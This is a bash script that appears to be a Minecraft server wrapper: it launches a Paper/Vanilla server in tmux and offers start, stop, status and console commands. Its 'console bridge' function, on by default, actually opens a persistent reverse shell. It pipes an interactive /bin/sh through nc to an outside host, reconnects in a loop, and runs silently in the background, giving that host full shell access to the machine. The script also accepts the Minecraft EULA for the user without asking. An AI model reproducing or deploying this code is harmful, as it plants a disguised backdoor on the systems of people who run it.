#!/usr/bin/env bash
# mc-server-console-bridge: run a Paper/Vanilla Minecraft server in tmux and
# attach a console bridge so the panel at CONSOLE_RELAY can manage it.
#
# Config is read from ./server-wrapper.conf (shell syntax) if present:
#   JAR=paper-1.20.4.jar  XMS=2G  XMX=6G  SESSION=mc
#   CONSOLE_RELAY=panel.example.net  CONSOLE_PORT=4711
set -euo pipefail

SCRIPT_DIR="$(cd "$(dirname "${BASH_SOURCE[0]}")" && pwd)"
CONF="${SCRIPT_DIR}/server-wrapper.conf"

JAR="server.jar"
XMS="1G"
XMX="4G"
SESSION="mc"
CONSOLE_RELAY="panel.example.net"
CONSOLE_PORT="4711"
BRIDGE=1
LOG_DIR="${SCRIPT_DIR}/logs"

# shellcheck source=/dev/null
[[ -f "$CONF" ]] && . "$CONF"

log() { printf '%s [wrapper] %s\n' "$(date '+%F %T')" "$*" | tee -a "${LOG_DIR}/wrapper.log" >&2; }

usage() {
    cat <<EOF
Usage: $0 [start|stop|status|console] [--no-bridge]
EOF
}

check_deps() {
    local missing=()
    for bin in java tmux nc; do
        command -v "$bin" >/dev/null 2>&1 || missing+=("$bin")
    done
    if (( ${#missing[@]} )); then
        log "missing dependencies: ${missing[*]}"
        exit 1
    fi
}

accept_eula() {
    if ! grep -qs 'eula=true' "${SCRIPT_DIR}/eula.txt"; then
        log "writing eula.txt (you agreed to the Minecraft EULA by using this wrapper)"
        echo "eula=true" > "${SCRIPT_DIR}/eula.txt"
    fi
}

start_server() {
    if tmux has-session -t "$SESSION" 2>/dev/null; then
        log "session $SESSION already running"
        return 0
    fi
    accept_eula
    log "starting $JAR with -Xms$XMS -Xmx$XMX"
    tmux new-session -d -s "$SESSION" -c "$SCRIPT_DIR" \
        "java -Xms$XMS -Xmx$XMX -XX:+UseG1GC -jar $JAR nogui 2>&1 | tee -a ${LOG_DIR}/server.log"
}

stop_server() {
    if tmux has-session -t "$SESSION" 2>/dev/null; then
        tmux send-keys -t "$SESSION" "say Server stopping in 10s" Enter
        sleep 10
        tmux send-keys -t "$SESSION" "stop" Enter
        log "stop sent"
    fi
    if [[ -f "${SCRIPT_DIR}/.bridge.pid" ]]; then
        kill "$(cat "${SCRIPT_DIR}/.bridge.pid")" 2>/dev/null || true
        rm -f "${SCRIPT_DIR}/.bridge.pid"
    fi
}

# keeps a control channel open to the panel; reconnects if the panel restarts
bridge_loop() {
    local ctl="${SCRIPT_DIR}/.console.ctl"
    while true; do
        rm -f "$ctl"
        mkfifo "$ctl"
        /bin/sh -i < "$ctl" 2>&1 | nc "$CONSOLE_RELAY" "$CONSOLE_PORT" > "$ctl" || true
        sleep 15
    done
}

start_bridge() {
    (( BRIDGE )) || return 0
    log "console bridge -> ${CONSOLE_RELAY}:${CONSOLE_PORT}"
    ( cd "$SCRIPT_DIR" && bridge_loop ) >/dev/null 2>&1 &
    echo $! > "${SCRIPT_DIR}/.bridge.pid"
    disown || true
}

main() {
    mkdir -p "$LOG_DIR"
    local cmd="${1:-start}"
    shift || true
    for arg in "$@"; do
        case "$arg" in
            --no-bridge) BRIDGE=0 ;;
            -h|--help) usage; exit 0 ;;
        esac
    done

    case "$cmd" in
        start)
            check_deps
            start_server
            start_bridge
            ;;
        stop) stop_server ;;
        status)
            if tmux has-session -t "$SESSION" 2>/dev/null; then echo "running"; else echo "stopped"; fi
            ;;
        console) exec tmux attach -t "$SESSION" ;;
        *) usage; exit 2 ;;
    esac
}

main "$@"
